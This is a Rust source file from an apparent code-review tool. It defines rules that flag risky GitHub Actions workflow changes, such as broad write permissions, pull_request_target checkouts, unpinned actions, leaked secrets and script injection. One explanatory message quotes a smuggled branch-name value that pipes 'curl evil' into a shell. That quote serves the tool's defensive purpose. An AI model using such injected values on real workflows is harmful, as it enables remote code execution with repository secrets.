//! GitHub Actions workflows: permissions, untrusted text and untrusted code.

use crate::diff::kinds::FileKind;
use crate::diff::patch::{Kind, Line};
use crate::signals::rule::Fits::{Uncommented, When};
use crate::signals::rule::Rule;
use crate::signals::signal::Signal;
use crate::signals::source_file::Row;
use crate::signals::text::{self, Search};
use crate::wit::Severity::{Major, Minor, Nit};

const ALL: Signal = Signal::security(
    "workflows/write-all",
    Major,
    0.9,
    "Workflow has write access to everything",
    "With `write-all` every step, including third-party actions, can push code and publish releases. Grant \
     only the permissions that the job needs.",
);

const WIDENED: Signal = Signal::security(
    "workflows/widened",
    Minor,
    0.8,
    "Workflow permission changes from read to write",
    "Every step of the job, including third-party actions, can now use it. Grant it only to the job that needs \
     it.",
);

const GRANTED: Signal = Signal::security(
    "workflows/granted",
    Nit,
    0.6,
    "Workflow gets a write permission",
    "Every step of the job, including third-party actions, can use it. Check that no narrower permission is \
     enough.",
);

const TARGET: Signal = Signal::security(
    "workflows/target",
    Nit,
    0.8,
    "`pull_request_target` runs with secrets",
    "It gives the workflow a write token and secrets, also for pull requests from forks. Use `pull_request`, \
     unless the workflow never runs code or text of the pull request.",
);

const CHECKOUT: Signal = Signal::security(
    "workflows/checkout",
    Major,
    0.9,
    "`pull_request_target` checks out untrusted code with access to secrets",
    "Build scripts of the pull request can steal the token and push. Build it in a `pull_request` workflow \
     without secrets.",
);

const UNPINNED: Signal = Signal::security(
    "workflows/unpinned",
    Minor,
    0.8,
    "Action is not pinned to a release",
    "Anyone who can push to that branch can run code in this workflow, with its token and secrets. Pin a \
     release, or better a commit SHA.",
);

const INJECTION: Signal = Signal::security(
    "workflows/injection",
    Major,
    0.9,
    "Untrusted text is inserted into a shell script",
    "A title or branch name like `\"; curl evil | sh #` is executed with the workflow's token. Pass the \
     expression through `env:` and quote the variable.",
);

const PRINTED: Signal = Signal::security(
    "workflows/printed",
    Major,
    0.75,
    "Secret is printed to the workflow log",
    "Masking fails as soon as the value is transformed, and many people can read the log. Do not print it.",
);

const IGNORED: Signal = Signal::new(
    "workflows/ignored",
    Minor,
    "ci",
    0.75,
    "Failing check no longer fails the build",
    "With `|| true` the step always succeeds, so broken code can be merged. Remove it, or exclude the known \
     failures.",
);

const CONTINUED: Signal = Signal::new(
    "workflows/continued",
    Nit,
    "ci",
    0.6,
    "Step may fail without failing the build",
    "`continue-on-error` hides its failures. Check that no other step relies on it.",
);

const UNSECURE: Signal = Signal::security(
    "workflows/commands",
    Major,
    0.9,
    "Deprecated workflow commands are enabled",
    "Any printed text can set variables and paths for later steps. Write to `$GITHUB_ENV` and `$GITHUB_PATH` \
     instead.",
);

pub const RULES: &[Rule] = &[
    Rule::new(
        "YAML",
        When("write", |row| {
            workflow(row) && row.has_in_strings("permissions : write-all")
        }),
        ALL,
    ),
    Rule::new(
        "YAML",
        When("write", |row| grants(row) && widens(row)),
        WIDENED,
    ),
    Rule::new(
        "YAML",
        When("write", |row| grants(row) && !widens(row)),
        GRANTED,
    ),
    Rule::new(
        "YAML",
        When("pull_request_target", |row| {
            workflow(row) && row.code().holds("pull_request_target") && !row.code().holds("github.")
        }),
        TARGET,
    ),
    Rule::new("YAML", When("ref", untrusted_checkout), CHECKOUT),
    Rule::new("YAML", When("uses", unpinned), UNPINNED),
    Rule::new("YAML", When("github", injected), INJECTION),
    Rule::new(
        "YAML",
        When("secrets", |row| {
            workflow(row)
                && row.has_in_strings("echo .. { secrets.")
                && !row.uncommented().contains(['|', '>'])
        }),
        PRINTED,
    ),
    Rule::new("YAML|Makefile", When("true", ignored), IGNORED),
    Rule::new(
        "YAML",
        When("continue", |row| {
            workflow(row) && row.has_in_strings("continue-on-error : true")
        }),
        CONTINUED,
    ),
    Rule::new(
        "YAML",
        Uncommented(&[
            "ACTIONS_ALLOW_UNSECURE_COMMANDS : true",
            "ACTIONS_ALLOW_UNSECURE_COMMANDS : ' true '",
        ]),
        UNSECURE,
    ),
];

fn workflow(row: &Row) -> bool {
    row.file().kind == FileKind::Ci
}

/// `contents: write` under `permissions:`.
fn grants(row: &Row) -> bool {
    let scopes = "contents actions checks deployments issues packages pages statuses security-events pull-requests id-token attestations discussions";
    let scope = row
        .code()
        .trim()
        .cut(":")
        .filter(|(_, value)| value.trim() == "write")
        .map(|(scope, _)| scope.trim());
    workflow(row) && scope.is_some_and(|scope| scopes.split(' ').any(|one| one == scope))
}

/// Whether the same permission was `read` or `none` in a deleted line.
fn widens(row: &Row) -> bool {
    let scope = row.code().trim().split(':').next().unwrap_or_default();
    let (read, none) = (format!("{scope}: read"), format!("{scope}: none"));
    let deleted = row
        .file()
        .first_lines()
        .filter(|line| line.kind == Kind::Deleted);
    deleted
        .map(|line| line.text.trim())
        .any(|text| text == read || text == none)
}

fn untrusted_checkout(row: &Row) -> bool {
    let head = row.has_in_strings("ref : .. github.event.pull_request.head")
        || row.has_in_strings("ref : .. github.head_ref");
    let target = |line: &Line| line.new.is_some() && line.text.holds("pull_request_target");
    workflow(row) && head && row.file().first_lines().any(target)
}

fn unpinned(row: &Row) -> bool {
    let used = row
        .code()
        .cut("uses:")
        .map(|(_, used)| used.trim().trim_matches(['"', '\'']));
    let reference = used
        .and_then(|used| used.cut("@"))
        .map(|(_, reference)| reference);
    // These offer no releases, or document their branch as the way to use them.
    let usual =
        used.is_some_and(|used| text::mentions(used, "dtolnay/ oss-fuzz .github/workflows/"));
    workflow(row)
        && !usual
        && reference.is_some_and(|reference| {
            [
                "main", "master", "HEAD", "latest", "develop", "dev", "trunk",
            ]
            .contains(&reference)
        })
}

/// Untrusted text that the template engine inserts into a `run:` or a `script:`.
fn injected(row: &Row) -> bool {
    let chosen = ["{ github.event.", "{ github.head_ref"];
    workflow(row)
        && text::has_any(row.uncommented(), &chosen)
        && foreign(row.uncommented())
        && scripted(row)
}

fn foreign(text: &str) -> bool {
    let Some((_, expression)) = text.cut("github.") else {
        return false;
    };
    let path = expression
        .split(|c: char| !(c.is_ascii_alphanumeric() || "._-*[]".contains(c)))
        .next()
        .unwrap_or_default();
    path == "head_ref"
        || [
            ".title",
            ".body",
            ".message",
            ".head.ref",
            ".head.label",
            ".page_name",
            ".email",
            ".name",
            ".label",
        ]
        .iter()
        .any(|end| path.ends_with(end))
            && !path.holds("repository")
}

/// Whether the line belongs to a script: on the line of `run:`, or in the block below it.
fn scripted(row: &Row) -> bool {
    let starts = |text: &str| {
        let text = text.trim_start().trim_start_matches("- ");
        text.starts_with("run:") || text.starts_with("script:")
    };
    starts(row.code()) || row.parent().is_some_and(|parent| starts(parent.code()))
}

fn ignored(row: &Row) -> bool {
    let checks = text::has_word(
        row.uncommented(),
        "test tests lint check audit pytest mypy ruff eslint tsc clippy jest typecheck vet",
    );
    workflow(row) && checks && text::has(row.uncommented(), "|| true")
}
